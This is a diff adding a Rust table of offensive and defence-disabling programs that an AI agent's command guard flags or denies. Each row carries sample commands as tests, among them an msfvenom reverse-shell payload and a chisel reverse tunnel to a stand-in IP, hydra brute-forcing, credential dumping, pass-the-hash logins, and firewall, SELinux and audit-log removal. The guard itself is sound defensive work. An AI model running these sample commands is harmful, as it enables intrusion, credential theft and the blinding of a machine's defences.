@@ -1,0 +1,327 @@
+//! Programs that change who the agent runs as, turn a machine's defences
+//! off, capture its traffic, or exist to attack: one row per program, the
+//! same [`Program`] rows as [`crate::PROGRAMS`] (read together through
+//! [`crate::programs`]).
+//!
+//! An attack write-up or an ATT&CK test names these tools; an agent working
+//! on a developer's project has no use for them that a human should not
+//! approve first. Tools with an everyday use (a scanner, a packet capture)
+//! are asked about; tools that only dump credentials or turn security off
+//! are denied.
+
+#![allow(
+    clippy::needless_update,
+    reason = "every row ends in `..P`, so a field added later needs no edit of rows that leave it out"
+)]
+
+use crate::Harm::{Credential, Destructive, Exfiltration, SelfEscalation};
+use crate::Level::{Critical, High, Medium};
+use crate::{Program, Sub};
+
+/// Defaults for the fields a row leaves out.
+const P: Program = Program {
+    names: &[],
+    source: "",
+    exec: &[],
+    net: &[],
+    writes: &[],
+    value_opts: &[],
+    subs: &[],
+    flagged: &[],
+    clean: &[],
+};
+
+/// A sub-command row that matches every invocation.
+const fn always(harm: crate::Harm, level: crate::Level, reason: &'static str) -> Sub {
+    Sub {
+        words: &[],
+        harm,
+        level,
+        reason,
+    }
+}
+
+/// The table. Keep rows sorted by canonical name.
+pub const SECURITY: &[Program] = &[
+    Program {
+        names: &["auditctl"],
+        source: "man:auditctl(8) (-D deletes all rules, -e 0 disables auditing)",
+        value_opts: &["-e", "-k", "-a", "-A", "-w", "-p", "-F", "-S", "-R"],
+        subs: &[Sub {
+            words: &["-D"],
+            harm: SelfEscalation,
+            level: High,
+            reason: "deletes every audit rule, blinding the system audit",
+        }],
+        flagged: &["auditctl -D"],
+        clean: &["auditctl -l"],
+        ..P
+    },
+    Program {
+        names: &["chisel"],
+        source: "https://github.com/jpillora/chisel (TCP/UDP tunnel over HTTP, reverse port forwarding)",
+        subs: &[always(
+            Exfiltration,
+            High,
+            "opens a tunnel (chisel), exposing this machine or its network",
+        )],
+        flagged: &["chisel client 203.0.113.5:8000 R:socks", "./chisel server -p 8000 --reverse"],
+        ..P
+    },
+    Program {
+        names: &["csrutil"],
+        source: "https://developer.apple.com/documentation/security/disabling-and-enabling-system-integrity-protection",
+        subs: &[
+            Sub {
+                words: &["disable"],
+                harm: SelfEscalation,
+                level: Critical,
+                reason: "turns System Integrity Protection off",
+            },
+            Sub {
+                words: &["authenticated-root"],
+                harm: SelfEscalation,
+                level: Critical,
+                reason: "changes System Integrity Protection",
+            },
+        ],
+        flagged: &["csrutil disable"],
+        clean: &["csrutil status"],
+        ..P
+    },
+    Program {
+        names: &["hashcat", "john", "hydra", "medusa", "ncrack"],
+        source: "https://hashcat.net/wiki/, https://www.openwall.com/john/doc/, https://github.com/vanhauser-thc/thc-hydra (password cracking and guessing)",
+        subs: &[always(
+            Credential,
+            High,
+            "cracks or guesses passwords",
+        )],
+        flagged: &[
+            "hashcat -m 0 hashes.txt rockyou.txt",
+            "john --wordlist=rockyou.txt shadow.txt",
+            "hydra -l root -P rockyou.txt ssh://10.0.0.5",
+        ],
+        ..P
+    },
+    Program {
+        names: &["iptables", "ip6tables", "iptables-legacy", "iptables-nft"],
+        source: "man:iptables(8) (-F/--flush deletes every rule of a chain or table)",
+        value_opts: &["-t", "--table", "-P", "--policy"],
+        subs: &[
+            Sub {
+                words: &["-F"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "deletes the firewall's rules",
+            },
+            Sub {
+                words: &["--flush"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "deletes the firewall's rules",
+            },
+        ],
+        flagged: &["iptables -F", "ip6tables --flush", "iptables -t nat -F"],
+        clean: &["iptables -L -n"],
+        ..P
+    },
+    Program {
+        names: &["journalctl"],
+        source: "man:journalctl(1) (--vacuum-size, --vacuum-time, --vacuum-files delete archived journal files; --rotate)",
+        subs: &[
+            Sub {
+                words: &["--vacuum-time"],
+                harm: Destructive,
+                level: High,
+                reason: "deletes the system logs",
+            },
+            Sub {
+                words: &["--vacuum-size"],
+                harm: Destructive,
+                level: High,
+                reason: "deletes the system logs",
+            },
+            Sub {
+                words: &["--vacuum-files"],
+                harm: Destructive,
+                level: High,
+                reason: "deletes the system logs",
+            },
+        ],
+        flagged: &["journalctl --vacuum-time=1s", "journalctl --rotate --vacuum-size 1K"],
+        clean: &["journalctl -u nginx --since today", "journalctl -f"],
+        ..P
+    },
+    Program {
+        names: &["lazagne", "mimipenguin", "secretsdump", "impacket-secretsdump", "pypykatz", "mimikatz"],
+        source: "https://github.com/AlessandroZ/LaZagne, https://github.com/huntergregal/mimipenguin, https://github.com/fortra/impacket (credential dumping; ATT&CK T1003, T1555)",
+        subs: &[always(
+            Credential,
+            Critical,
+            "runs a credential-dumping tool",
+        )],
+        flagged: &[
+            "python3 laZagne.py all",
+            "sudo ./mimipenguin.sh",
+            "impacket-secretsdump -just-dc corp/admin@10.0.0.1",
+            "python3 secretsdump.py -sam sam.save LOCAL",
+        ],
+        ..P
+    },
+    Program {
+        names: &["linpeas", "linenum", "lse", "pspy", "pspy64", "pspy32", "linux-exploit-suggester"],
+        source: "https://github.com/peass-ng/PEASS-ng, https://github.com/rebootuser/LinEnum, https://github.com/DominicBreuker/pspy (privilege-escalation reconnaissance)",
+        subs: &[always(
+            SelfEscalation,
+            High,
+            "runs a privilege-escalation reconnaissance tool",
+        )],
+        flagged: &["./linpeas.sh -a", "bash LinEnum.sh -t", "./pspy64 -pf -i 1000"],
+        ..P
+    },
+    Program {
+        names: &["msfconsole", "msfvenom", "msfdb", "msfrpcd"],
+        source: "https://docs.metasploit.com/ (exploitation framework, payload generator)",
+        subs: &[always(
+            SelfEscalation,
+            Critical,
+            "runs the Metasploit exploitation framework",
+        )],
+        flagged: &[
+            "msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.5 LPORT=4444 -f elf -o x",
+            "msfconsole -q -x 'use exploit/multi/handler'",
+        ],
+        ..P
+    },
+    Program {
+        names: &["nft"],
+        source: "man:nft(8) (flush ruleset deletes every rule)",
+        subs: &[Sub {
+            words: &["flush", "ruleset"],
+            harm: SelfEscalation,
+            level: High,
+            reason: "deletes the firewall's rules",
+        }],
+        flagged: &["nft flush ruleset"],
+        clean: &["nft list ruleset"],
+        ..P
+    },
+    Program {
+        names: &["nmap", "masscan", "zmap", "rustscan"],
+        source: "https://nmap.org/book/man.html, https://github.com/robertdavidgraham/masscan (network scanners)",
+        subs: &[always(
+            Exfiltration,
+            Medium,
+            "scans the network",
+        )],
+        flagged: &["nmap -sV 10.0.0.0/24", "masscan -p1-65535 10.0.0.0/8 --rate 100000"],
+        ..P
+    },
+    Program {
+        names: &["crackmapexec", "netexec", "nxc", "evil-winrm", "kerbrute", "responder", "bloodhound-python"],
+        source: "https://github.com/Pennyw0rth/NetExec, https://github.com/Hackplayers/evil-winrm, https://github.com/lgandx/Responder (lateral movement and credential capture)",
+        subs: &[always(
+            Credential,
+            Critical,
+            "runs a lateral-movement or credential-capture tool",
+        )],
+        flagged: &[
+            "nxc smb 10.0.0.0/24 -u admin -p Passw0rd",
+            "responder -I eth0 -wrf",
+            "evil-winrm -i 10.0.0.5 -u admin -H 8846f7eaee8fb117ad06bdd830b7586c",
+        ],
+        ..P
+    },
+    Program {
+        names: &["setenforce"],
+        source: "man:setenforce(8) (0 or Permissive turns enforcement off)",
+        subs: &[
+            Sub {
+                words: &["0"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "turns SELinux enforcement off",
+            },
+            Sub {
+                words: &["Permissive"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "turns SELinux enforcement off",
+            },
+            Sub {
+                words: &["permissive"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "turns SELinux enforcement off",
+            },
+        ],
+        flagged: &["setenforce 0", "sudo setenforce Permissive"],
+        clean: &["setenforce --help"],
+        ..P
+    },
+    Program {
+        names: &["spctl"],
+        source: "man:spctl(8) (--master-disable, --global-disable turn Gatekeeper off)",
+        subs: &[
+            Sub {
+                words: &["--master-disable"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "turns Gatekeeper off",
+            },
+            Sub {
+                words: &["--global-disable"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "turns Gatekeeper off",
+            },
+        ],
+        flagged: &["sudo spctl --master-disable"],
+        clean: &["spctl --status", "spctl --assess -v app.app"],
+        ..P
+    },
+    Program {
+        names: &["sudo", "doas", "pkexec", "run0"],
+        source: "man:sudo(8), man:doas(1), man:pkexec(1), man:run0(1) (run a command as another user, by default root)",
+        subs: &[always(
+            SelfEscalation,
+            Medium,
+            "runs a command as root",
+        )],
+        flagged: &["sudo apt-get install -y jq", "doas rc-service nginx restart", "pkexec id"],
+        ..P
+    },
+    Program {
+        names: &["tcpdump", "tshark", "dumpcap", "tcpflow", "ngrep", "ettercap", "bettercap", "termshark"],
+        source: "man:tcpdump(8), man:tshark(1), man:ngrep(8) (packet capture; ATT&CK T1040 network sniffing)",
+        subs: &[always(
+            Credential,
+            Medium,
+            "captures network traffic, which can hold credentials and tokens",
+        )],
+        flagged: &["tcpdump -i any -w cap.pcap", "tshark -c 5 -i eth0", "ngrep -q -d any password"],
+        ..P
+    },
+    Program {
+        names: &["ufw"],
+        source: "man:ufw(8) (disable, reset)",
+        subs: &[
+            Sub {
+                words: &["disable"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "turns the firewall off",
+            },
+            Sub {
+                words: &["reset"],
+                harm: SelfEscalation,
+                level: High,
+                reason: "deletes the firewall's rules",
+            },
+        ],
+        flagged: &["ufw disable", "sudo ufw --force reset"],
+        clean: &["ufw status verbose"],
+        ..P
+    },
+];
